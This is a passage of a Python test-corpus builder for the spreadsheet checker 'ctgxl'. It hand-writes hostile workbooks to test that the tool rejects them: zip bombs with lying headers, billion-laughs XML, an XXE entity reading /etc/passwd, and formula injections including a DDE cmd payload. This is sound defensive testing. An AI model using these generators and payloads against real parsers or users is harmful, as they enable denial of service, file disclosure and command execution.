"""A corpus of broken and hostile files, generated (never committed): each one is what a
damaged disk, a careless export or a malicious sender could hand to `ctgxl`.

    python tests/hostile/corpus.py DOSSIER     # writes the corpus and lists it

Importable: ``build(folder) -> list[Case]``. Each case says what `ctgxl check` must answer
(finding codes, exit code) and what must stay true of every file ctgxl writes from it
(texts that look like formulas stay text, strings that must never appear).

Everything is written by hand, byte by byte where needed (zip archives whose headers lie,
OLE2 compound files, BIFF8 .xls), so that no package beyond ctgxl's own is needed.
"""

from __future__ import annotations

import os
import re
import struct
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

# --- Cases ------------------------------------------------------------------------------


@dataclass
class Case:
    name: str                      # file or folder name inside the corpus folder
    codes: tuple[str, ...]         # finding codes `ctgxl check` must report (all of them)
    exit_code: int                 # what `ctgxl check` must exit with
    what: str                      # one line: what the file is
    readable: bool = True          # False: the file as a whole cannot be read (exit 2)
    env: dict[str, str] = field(default_factory=dict)    # limits lowered for this case
    formula_texts: tuple[str, ...] = ()   # texts that look like formulas, kept as text in every output
    never: tuple[str, ...] = ()   # strings that must never appear in any output or report
    dropped: tuple[str, ...] = ()  # what ctgxl's own workbooks (merge, split, format) never carry
    in_memory: bool = True         # False: only ever checked in a child process (it once crashed one)
    joint: bool = True             # part of the joint merge / annotate run
    texts: tuple[str, ...] = ()    # data texts that must survive (read, merged, reformatted)
    format_texts: tuple[str, ...] = ()  # texts outside the data sheets, kept by `format` (not by merge)


# --- Workbook content ---------------------------------------------------------------------

CAF = "Caf de la Seine-Saint-Denis"
PLAN_HEADERS = ["N° action", "Thématique", "Objectif", "Intitulé de l'action", "Pilote collectivité",
                "Année de début", "Statut", "Indicateurs de résultat", "Pilote Caf", "Commentaire de suivi"]
EQUIPMENT_HEADERS = ["Collectivité signataire", "Type de structure", "Nom de la structure", "Adresse",
                     "Gestionnaire", "Capacité (places)"]


def identification(service: str, **changes) -> list[list]:
    values = {"Territoire": "Dugny", "Type de territoire": "Commune", "Code INSEE ou SIREN": "93030",
              "Caf": CAF, "Début de la convention": "01/01/2023", "Fin de la convention": "31/12/2027",
              "Service contributeur": service}
    values.update(changes)
    return [["Champ", "Valeur"]] + [[label, value] for label, value in values.items()]


def plan_row(tag: str, number: int = 1, **changes) -> list:
    values = {"N° action": f"{tag}-{number}", "Thématique": "Petite enfance",
              "Objectif": "Augmenter l'offre d'accueil", "Intitulé de l'action": f"Action {number} ({tag})",
              "Pilote collectivité": "Direction petite enfance", "Année de début": 2024, "Statut": "En cours",
              "Indicateurs de résultat": "Places créées", "Pilote Caf": "Conseillère territoriale",
              "Commentaire de suivi": None}
    values.update(changes)
    return [values[header] for header in PLAN_HEADERS]


def plan(tag: str, rows: int = 2, **changes) -> list[list]:
    return [list(PLAN_HEADERS)] + [plan_row(tag, number, **changes) for number in range(1, rows + 1)]


def good_sheets(tag: str) -> list[tuple[str, list[list]]]:
    return [("Identification", identification(f"Service {tag}")), ("Plan d'actions", plan(tag))]


# --- Writing .xlsx by hand ------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_BOOK_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


@dataclass
class Formula:
    """A real formula cell, with its cached value (or none)."""
    text: str
    cached: object = None


@dataclass
class Raw:
    """A cell written as given (XML fragment inside <c>, with its attributes)."""
    attributes: str
    inner: str


def cell_xml(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, Raw):
        return f'<c r="{ref}"{value.attributes}>{value.inner}</c>'
    if isinstance(value, Formula):
        cached = "" if value.cached is None else f"<v>{escape(str(value.cached))}</v>"
        kind = ' t="str"' if isinstance(value.cached, str) else ""
        return f'<c r="{ref}"{kind}><f>{escape(value.text)}</f>{cached}</c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    text = str(value)
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f'<c r="{ref}" t="inlineStr"><is><t{space}>{escape(text)}</t></is></c>'


def sheet_xml(grid: list[list], *, dimension: str | None = None, merged: tuple[str, ...] = (),
              extra_cells: tuple[tuple[int, str], ...] = (), prolog: str = "") -> str:
    rows = []
    for number, values in enumerate(grid, start=1):
        cells = "".join(cell_xml(f"{column_letters(index)}{number}", value) for index, value in enumerate(values))
        if cells:
            rows.append(f'<row r="{number}">{cells}</row>')
    for number, cells in extra_cells:
        rows.append(f'<row r="{number}">{cells}</row>')
    merge = ""
    if merged:
        merge = f'<mergeCells count="{len(merged)}">' + "".join(f'<mergeCell ref="{ref}"/>' for ref in merged) + \
            "</mergeCells>"
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (prolog or '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n') + \
        f'<worksheet xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}">{dim}<sheetData>{"".join(rows)}</sheetData>{merge}' \
        "</worksheet>"


@dataclass
class Sheet:
    title: str
    xml: str | bytes
    state: str = "visible"


def sheets_of(pairs: list[tuple[str, list[list]]]) -> list[Sheet]:
    return [Sheet(title, sheet_xml(grid)) for title, grid in pairs]


def xlsx_parts(sheets: list[Sheet], *, macro: bool = False, styles: str | None = None,
               custom: str | None = None, extra: dict[str, bytes | str] | None = None,
               drop: tuple[str, ...] = ()) -> list[tuple[str, bytes]]:
    """The parts of an .xlsx (or .xlsm) package, in order."""
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{MACRO_BOOK_TYPE if macro else BOOK_TYPE}"/>']
    overrides += [f'<Override PartName="/xl/worksheets/sheet{index}.xml" ContentType="{SHEET_TYPE}"/>'
                  for index in range(1, len(sheets) + 1)]
    if styles is not None:
        overrides.append('<Override PartName="/xl/styles.xml" '
                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>')
    if custom is not None:
        overrides.append('<Override PartName="/docProps/custom.xml" '
                         'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>')
    defaults = ['<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
                '<Default Extension="xml" ContentType="application/xml"/>']
    if macro:
        defaults.append('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             + "".join(defaults) + "".join(overrides) + "</Types>")
    root_rels = [f'<Relationship Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/>']
    if custom is not None:
        root_rels.append(f'<Relationship Id="rId2" Type="{OFFICE_RELS}/custom-properties" '
                         'Target="docProps/custom.xml"/>')
    book_sheets = "".join(
        f'<sheet name={quoteattr(sheet.title)} sheetId="{index}" r:id="rId{index}"'
        + ("" if sheet.state == "visible" else f' state="{sheet.state}"') + "/>"
        for index, sheet in enumerate(sheets, start=1))
    workbook = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN}" '
                f'xmlns:r="{OFFICE_RELS}"><bookViews><workbookView activeTab="0"/></bookViews>'
                f"<sheets>{book_sheets}</sheets></workbook>")
    book_rels = [f'<Relationship Id="rId{index}" Type="{OFFICE_RELS}/worksheet" Target="worksheets/sheet{index}.xml"/>'
                 for index in range(1, len(sheets) + 1)]
    if styles is not None:
        book_rels.append(f'<Relationship Id="rId{len(sheets) + 1}" Type="{OFFICE_RELS}/styles" Target="styles.xml"/>')
    if macro:
        book_rels.append(f'<Relationship Id="rId{len(sheets) + 2}" '
                         'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                         'Target="vbaProject.bin"/>')
    parts: list[tuple[str, bytes | str]] = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{RELS}">'
                        + "".join(root_rels) + "</Relationships>"),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{RELS}">'
                                       + "".join(book_rels) + "</Relationships>"),
    ]
    parts += [(f"xl/worksheets/sheet{index}.xml", sheet.xml) for index, sheet in enumerate(sheets, start=1)]
    if styles is not None:
        parts.append(("xl/styles.xml", styles))
    if custom is not None:
        parts.append(("docProps/custom.xml", custom))
    if macro:
        parts.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8))
    for name, data in (extra or {}).items():
        parts.append((name, data))
    return [(name, data.encode("utf-8") if isinstance(data, str) else data) for name, data in parts
            if name not in drop]


class RawZip:
    """A zip archive written by hand, so that its headers can say what a hostile file says."""

    def __init__(self):
        self.members: list[dict] = []

    def add(self, name: str, data: bytes | str = b"", *, raw: bytes | None = None, size: int | None = None,
            crc: int | None = None, method: int = 8, flags: int = 0) -> RawZip:
        if isinstance(data, str):
            data = data.encode("utf-8")
        if raw is None:
            if method == 8:
                compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
                raw = compressor.compress(data) + compressor.flush()
            else:
                raw = data
        self.members.append({"name": name.encode("utf-8"), "raw": raw, "method": method, "flags": flags | 0x800,
                             "size": len(data) if size is None else size,
                             "crc": zlib.crc32(data) if crc is None else crc})
        return self

    def bytes(self) -> bytes:
        out, central = bytearray(), bytearray()
        for member in self.members:
            offset = len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, member["flags"], member["method"], 0, 0x5821,
                               member["crc"], len(member["raw"]), member["size"], len(member["name"]), 0)
            out += member["name"] + member["raw"]
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, member["flags"], member["method"], 0,
                                   0x5821, member["crc"], len(member["raw"]), member["size"], len(member["name"]),
                                   0, 0, 0, 0, 0, offset) + member["name"]
        end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(self.members), len(self.members), len(central),
                          len(out), 0)
        return bytes(out + central + end)

    def write(self, path: Path) -> Path:
        path.write_bytes(self.bytes())
        return path


def write_xlsx(path: Path, sheets: list[Sheet], **options) -> Path:
    archive = RawZip()
    for name, data in xlsx_parts(sheets, **options):
        archive.add(name, data)
    return archive.write(path)


def good_xlsx(path: Path, tag: str) -> Path:
    return write_xlsx(path, sheets_of(good_sheets(tag)))


# --- OLE2 compound files and BIFF8 (.xls) -----------------------------------------------------

ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE2 compound file (version 3, 512-byte sectors) holding these streams at the root.

    Streams are padded to at least 4096 bytes so that no mini stream is needed; the
    directory comes last, after the data, as some writers put it.
    """
    names = sorted(streams, key=lambda name: (len(name), name.upper()))
    assert len(names) <= 3
    chunks = []
    for name in names:
        data = streams[name]
        size = max(4096, -(-len(data) // 512) * 512)
        chunks.append(data.ljust(size, b"\0"))
    data_sectors = sum(len(chunk) // 512 for chunk in chunks)
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + data_sectors + 1:
        fat_sectors += 1
    assert fat_sectors <= 109
    fat = [FATSECT] * fat_sectors
    starts = []
    for chunk in chunks:
        count = len(chunk) // 512
        starts.append(len(fat))
        fat += [len(fat) + step + 1 for step in range(count - 1)] + [ENDOFCHAIN]
    directory_sector = len(fat)
    fat.append(ENDOFCHAIN)
    fat += [FREESECT] * (fat_sectors * 128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, NOSTREAM, right, child)
                + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, size))

    entries = [entry("Root Entry", 5, 1, NOSTREAM, ENDOFCHAIN, 0)]
    for index, (name, chunk) in enumerate(zip(names, chunks), start=1):
        right = index + 1 if index < len(names) else NOSTREAM
        entries.append(entry(name, 2, NOSTREAM, right, starts[index - 1], len(chunk)))
    while len(entries) < 4:
        entries.append(b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM)
                       + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, 0, 0))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, directory_sector, 0, 4096, ENDOFCHAIN, 0,
                                        ENDOFCHAIN, 0))
    header += struct.pack(f"<{fat_sectors}I", *range(fat_sectors)) + struct.pack("<I", FREESECT) * (109 - fat_sectors)
    assert len(header) == 512
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    return header + fat_bytes + b"".join(chunks) + b"".join(entries)


def _record(kind: int, data: bytes) -> bytes:
    assert len(data) <= 8224
    return struct.pack("<HH", kind, len(data)) + data


def biff8(sheets: list[tuple[str, list[list]]]) -> bytes:
    """The Workbook stream of an Excel 97-2003 file: text cells through the shared string table."""
    strings: list[str] = []
    index: dict[str, int] = {}
    total = 0
    for _, grid in sheets:
        for row in grid:
            for value in row:
                if isinstance(value, str):
                    total += 1
                    if value not in index:
                        index[value] = len(strings)
                        strings.append(value)

    def unicode_string(text: str, short: bool) -> bytes:
        encoded = text.encode("utf-16-le")
        return struct.pack("<BB" if short else "<HB", len(encoded) // 2, 1) + encoded

    bof = lambda kind: _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))  # noqa: E731
    eof = _record(0x000A, b"")
    sst = _record(0x00FC, struct.pack("<II", total, len(strings))
                  + b"".join(unicode_string(text, False) for text in strings))
    substreams = []
    for _, grid in sheets:
        cells = []
        for row_number, row in enumerate(grid):
            for col, value in enumerate(row):
                if isinstance(value, str):
                    cells.append(_record(0x00FD, struct.pack("<HHHI", row_number, col, 0, index[value])))
                elif isinstance(value, (int, float)) and value is not None:
                    cells.append(_record(0x0203, struct.pack("<HHHd", row_number, col, 0, float(value))))
        width = max((len(row) for row in grid), default=0)
        dimensions = _record(0x0200, struct.pack("<IIHHH", 0, len(grid), 0, width, 0))
        substreams.append(bof(0x0010) + dimensions + b"".join(cells) + eof)
    bound = [lambda position, title=title: _record(0x0085, struct.pack("<IBB", position, 0, 0)
                                                   + unicode_string(title, True)) for title, _ in sheets]
    head = bof(0x0005) + _record(0x0042, struct.pack("<H", 1200))
    globals_size = len(head) + sum(len(make(0)) for make in bound) + len(sst) + len(eof)
    position = globals_size
    records = []
    for make, substream in zip(bound, substreams):
        records.append(make(position))
        position += len(substream)
    return head + b"".join(records) + sst + eof + b"".join(substreams)


def xls_bytes(sheets: list[tuple[str, list[list]]]) -> bytes:
    return compound_file({"Workbook": biff8(sheets)})


def encrypted_bytes(far: bool = False) -> bytes:
    """What Excel writes for a workbook with a password to open: an OLE2 file holding the
    encrypted package. With ``far``, the directory naming it lies beyond the first 64 KiB."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"  # agile encryption, version 4.4
    package = struct.pack("<Q", 5000) + os.urandom(256 if not far else 120_000)
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": package})


# --- Hostile XML ------------------------------------------------------------------------------

LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{level} "' + f"&lol{level - 1 if level > 1 else ''};" * 10 + '">'
                    for level in range(1, 10))
          + "]>")
PASSWD = "root:x:0:0"


def external_entity(name: str = "xxe", target: str = "file:///etc/passwd") -> str:
    return f'<!DOCTYPE r [<!ENTITY {name} SYSTEM "{target}">]>'


def laughs_sheet() -> str:
    grid = plan("ENTITE")
    body = sheet_xml(grid)
    body = body.replace("Augmenter l&apos;offre d&apos;accueil", "&lol9;", 1).replace(
        "Augmenter l'offre d'accueil", "&lol9;", 1)
    return body.replace("?>\n", "?>\n" + LAUGHS + "\n", 1)


def xxe_sheet() -> str:
    body = sheet_xml(plan("XXE"))
    body = body.replace("Augmenter l'offre d'accueil", "&xxe;", 1)
    return body.replace("?>\n", "?>\n" + external_entity() + "\n", 1)


def shared_strings_bomb() -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + LAUGHS
            + f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')


def styles_xml(prolog: str = "", percent: bool = False) -> str:
    formats = '<numFmts count="1"><numFmt numFmtId="164" formatCode="0.0%"/></numFmts>' if percent else ""
    xfs = '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' \
          '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}<styleSheet xmlns="{MAIN}">{formats}'
            '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
            '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
            '<borders count="1"><border/></borders>'
            '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
            + xfs + "</styleSheet>")


def custom_xml(prolog: str = "", kind: str = "plan-actions", version: str = "1", entity: str = "") -> str:
    vt = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
    value = entity or escape(kind)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}<Properties '
            f'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="{vt}">'
            f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="ctgxl_modele">'
            f"<vt:lpwstr>{value}</vt:lpwstr></property>"
            f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="3" name="ctgxl_version">'
            f"<vt:lpwstr>{escape(version)}</vt:lpwstr></property></Properties>")


# --- Zip bombs ----------------------------------------------------------------------------

def inflating_member(head: bytes, tail: bytes, megabytes: int, crc: bool = True) -> tuple[bytes, int, int]:
    """(deflate data, inflated size, CRC-32) of head + megabytes of 'A' + tail, made in well
    under a second: one compressed MiB, flushed so that it can be repeated as is."""
    chunk = b"A" * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush()
    value = zlib.crc32(head)
    for _ in range(megabytes if crc else 0):
        value = zlib.crc32(chunk, value)
    value = zlib.crc32(tail, value)
    return start + block * megabytes + end, len(head) + len(tail) + megabytes * len(chunk), value


def bomb(path: Path, megabytes: int, *, lie: bool) -> Path:
    """A workbook whose Plan sheet inflates to ``megabytes`` MiB of one text cell; with ``lie``
    the zip headers claim the sheet is tiny (and carry the CRC of that tiny prefix)."""
    head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>').encode()
    tail = b"</t></is></c></row></sheetData></worksheet>"
    raw, size, crc = inflating_member(head, tail, megabytes, crc=not lie)
    if lie:
        size, crc = len(head), zlib.crc32(head)
    archive = RawZip()
    for name, data in xlsx_parts([Sheet("Identification", sheet_xml(identification("Service bombe"))),
                                  Sheet("Plan d'actions", "")]):
        if name == "xl/worksheets/sheet2.xml":
            archive.add(name, raw=raw, size=size, crc=crc)
        else:
            archive.add(name, data)
    return archive.write(path)


# --- ODS ----------------------------------------------------------------------------------

def ods_bytes(tables: list[tuple[str, str]]) -> bytes:
    """An OpenDocument spreadsheet; each table given as its rows' XML."""
    body = "".join(f'<table:table table:name={quoteattr(name)}>{rows}</table:table>' for name, rows in tables)
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>")
    archive = RawZip()
    archive.add("mimetype", "application/vnd.oasis.opendocument.spreadsheet", method=0)
    archive.add("content.xml", content)
    archive.add("META-INF/manifest.xml",
                '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    return archive.bytes()


def ods_rows(grid: list[list]) -> str:
    rows = []
    for row in grid:
        cells = []
        for value in row:
            if value is None:
                cells.append("<table:table-cell/>")
            elif isinstance(value, (int, float)):
                cells.append(f'<table:table-cell office:value-type="float" office:value="{value}">'
                             f"<text:p>{value}</text:p></table:table-cell>")
            else:
                cells.append(f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}'
                             "</text:p></table:table-cell>")
        rows.append(f"<table:table-row>{''.join(cells)}</table:table-row>")
    return "".join(rows)


# --- The corpus -------------------------------------------------------------------------------

FORMULA_TEXTS = ('=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
                 '=HYPERLINK("http://evil.example","clic")', "=1+1", "=2+2")
# Those typed in data columns (the others are in Identification's contact and a free sheet, which
# `merge` does not carry): the consolidated workbook and the split files hold these.
MERGED_FORMULA_TEXTS = FORMULA_TEXTS[:6]
LONG_TEXT = ("Description très détaillée de l'action. " * 1000)[:40_000]
BUILDERS = []


def case(function):
    BUILDERS.append(function)
    return function


@case
def empty_file(folder: Path) -> Case:
    (folder / "vide.xlsx").write_bytes(b"")
    return Case("vide.xlsx", ("fichier-illisible",), 2, "fichier .xlsx de 0 octet", readable=False)


@case
def empty_zip(folder: Path) -> Case:
    RawZip().write(folder / "archive-vide.xlsx")
    return Case("archive-vide.xlsx", ("fichier-illisible",), 2, "archive zip valide sans aucun membre",
                readable=False)


@case
def spaces_only(folder: Path) -> Case:
    (folder / "espaces.ods").write_bytes(b"   \n\n  ")
    return Case("espaces.ods", ("fichier-illisible",), 2, "fichier .ods ne contenant que des blancs", readable=False)


@case
def truncated(folder: Path) -> Case:
    data = good_xlsx(folder / "tronque.xlsx", "TRONQUE").read_bytes()
    (folder / "tronque.xlsx").write_bytes(data[: len(data) // 2])
    return Case("tronque.xlsx", ("fichier-illisible",), 2, "classeur coupé en deux (téléchargement interrompu)",
                readable=False)


@case
def no_workbook_part(folder: Path) -> Case:
    archive = RawZip()
    for name, data in xlsx_parts(sheets_of(good_sheets("SANSWB")), drop=("xl/workbook.xml",)):
        archive.add(name, data)
    archive.write(folder / "sans-workbook.xlsx")
    return Case("sans-workbook.xlsx", ("fichier-illisible",), 2, "zip sans xl/workbook.xml", readable=False)


@case
def missing_sheet_part(folder: Path) -> Case:
    archive = RawZip()
    for name, data in xlsx_parts(sheets_of(good_sheets("PARTMANQ")), drop=("xl/worksheets/sheet2.xml",)):
        archive.add(name, data)
    archive.write(folder / "feuille-manquante.xlsx")
    return Case("feuille-manquante.xlsx", ("fichier-illisible",), 1,
                "xl/workbook.xml annonce une feuille dont la partie manque")


@case
def csv_renamed(folder: Path) -> Case:
    (folder / "csv-renomme.xlsx").write_text("N° action;Thématique;Objectif\n1;Petite enfance;=1+1\n",
                                             encoding="utf-8")
    return Case("csv-renomme.xlsx", ("fichier-illisible",), 2, "un CSV renommé en .xlsx", readable=False)


@case
def pdf_renamed(folder: Path) -> Case:
    (folder / "pdf-renomme.xlsx").write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n")
    return Case("pdf-renomme.xlsx", ("fichier-illisible",), 2, "un PDF renommé en .xlsx", readable=False)


@case
def html_renamed(folder: Path) -> Case:
    (folder / "html-renomme.xls").write_text(
        "<!DOCTYPE html><html><body><table><tr><td>N° action</td></tr></table></body></html>", encoding="utf-8")
    return Case("html-renomme.xls", ("fichier-illisible",), 2,
                "une page HTML nommée .xls (export « Excel » de certains logiciels)", readable=False)


@case
def xls_renamed(folder: Path) -> Case:
    (folder / "xls-renomme.xlsx").write_bytes(xls_bytes(good_sheets("XLSREN")))
    return Case("xls-renomme.xlsx", ("extension-incorrecte",), 0,
                "un vrai classeur Excel 97-2003 (BIFF8) nommé .xlsx", texts=("Action 1 (XLSREN)",))


@case
def real_xls(folder: Path) -> Case:
    (folder / "ancien.xls").write_bytes(xls_bytes(good_sheets("XLS")))
    return Case("ancien.xls", (), 0, "un vrai classeur Excel 97-2003 (BIFF8, écrit à la main)",
                texts=("Action 1 (XLS)",))


@case
def xlsx_renamed(folder: Path) -> Case:
    good_xlsx(folder / "xlsx-renomme.xls", "XLSXREN")
    return Case("xlsx-renomme.xls", ("extension-incorrecte",), 0, "un classeur .xlsx nommé .xls",
                texts=("Action 1 (XLSXREN)",))


@case
def ole_not_workbook(folder: Path) -> Case:
    (folder / "document-word.xls").write_bytes(compound_file({"WordDocument": b"\xec\xa5" + b"\0" * 600}))
    return Case("document-word.xls", ("fichier-illisible",), 2, "un fichier OLE2 sans classeur (document Word)",
                readable=False)


@case
def encrypted(folder: Path) -> Case:
    (folder / "protege.xlsx").write_bytes(encrypted_bytes())
    return Case("protege.xlsx", ("fichier-chiffre",), 2, "classeur protégé par mot de passe (EncryptedPackage)",
                readable=False)


@case
def encrypted_far(folder: Path) -> Case:
    (folder / "protege-gros.xlsx").write_bytes(encrypted_bytes(far=True))
    return Case("protege-gros.xlsx", ("fichier-chiffre",), 2,
                "classeur protégé dont le répertoire OLE2 est au-delà des 64 premiers Kio", readable=False)


@case
def zip_bomb(folder: Path) -> Case:
    bomb(folder / "bombe.xlsx", 1024, lie=False)
    return Case("bombe.xlsx", ("fichier-trop-gros",), 2, "zip de 1 Mo qui se décompresse en 1 Gio", readable=False)


@case
def lying_bomb(folder: Path) -> Case:
    bomb(folder / "bombe-menteuse.xlsx", 1024, lie=True)
    return Case("bombe-menteuse.xlsx", ("fichier-illisible",), 2,
                "zip dont l'en-tête annonce 150 octets pour une feuille de 1 Gio", readable=False)


@case
def bomb_under_low_limit(folder: Path) -> Case:
    bomb(folder / "bombe-limite-basse.xlsx", 8, lie=False)
    return Case("bombe-limite-basse.xlsx", ("fichier-trop-gros",), 2,
                "8 Mio décompressés, limite abaissée à 1 Mo par CTGXL_MAX_DECOMPRESSE_OCTETS", readable=False,
                env={"CTGXL_MAX_DECOMPRESSE_OCTETS": "1000000"}, joint=False)


@case
def file_over_size_limit(folder: Path) -> Case:
    good_xlsx(folder / "trop-lourd.xlsx", "LOURD")
    return Case("trop-lourd.xlsx", ("fichier-trop-gros",), 2, "fichier au-delà de CTGXL_MAX_FICHIER_OCTETS",
                readable=False, env={"CTGXL_MAX_FICHIER_OCTETS": "1000"}, joint=False)


@case
def too_many_rows_low_limit(folder: Path) -> Case:
    write_xlsx(folder / "trop-de-lignes.xlsx", [Sheet("Identification", sheet_xml(identification("Service LIGNES"))),
                                                Sheet("Plan d'actions", sheet_xml(plan("LIGNES", rows=120)))])
    return Case("trop-de-lignes.xlsx", ("feuille-trop-grande",), 1, "120 lignes, limite CTGXL_MAX_LIGNES=50",
                env={"CTGXL_MAX_LIGNES": "50"}, joint=False)


@case
def billion_laughs_sheet(folder: Path) -> Case:
    write_xlsx(folder / "entites-feuille.xlsx", [Sheet("Identification", sheet_xml(identification("Service ENT"))),
                                                 Sheet("Plan d'actions", laughs_sheet())])
    return Case("entites-feuille.xlsx", ("fichier-illisible",), 1,
                "« billion laughs » (entités imbriquées) dans le XML d'une feuille", never=("lollollol",))


@case
def billion_laughs_shared_strings(folder: Path) -> Case:
    sheets = [Sheet("Identification", sheet_xml(identification("Service SST"))),
              Sheet("Plan d'actions", sheet_xml(plan("SST"), extra_cells=((50, '<c r="A50" t="s"><v>0</v></c>'),)))]
    archive = RawZip()
    for name, data in xlsx_parts(sheets, extra={"xl/sharedStrings.xml": shared_strings_bomb()}):
        archive.add(name, data)
    archive.write(folder / "entites-sharedstrings.xlsx")
    return Case("entites-sharedstrings.xlsx", ("fichier-illisible",), 2,
                "« billion laughs » dans xl/sharedStrings.xml", readable=False, never=("lollollol",))


@case
def billion_laughs_styles(folder: Path) -> Case:
    write_xlsx(folder / "entites-styles.xlsx", sheets_of(good_sheets("STYLES")),
               styles=styles_xml(LAUGHS, percent=True).replace('formatCode="0.0%"', 'formatCode="&lol9;"'))
    return Case("entites-styles.xlsx", ("fichier-illisible",), 2, "« billion laughs » dans xl/styles.xml",
                readable=False, never=("lollollol",))


@case
def external_entity_sheet(folder: Path) -> Case:
    write_xlsx(folder / "entite-externe-feuille.xlsx",
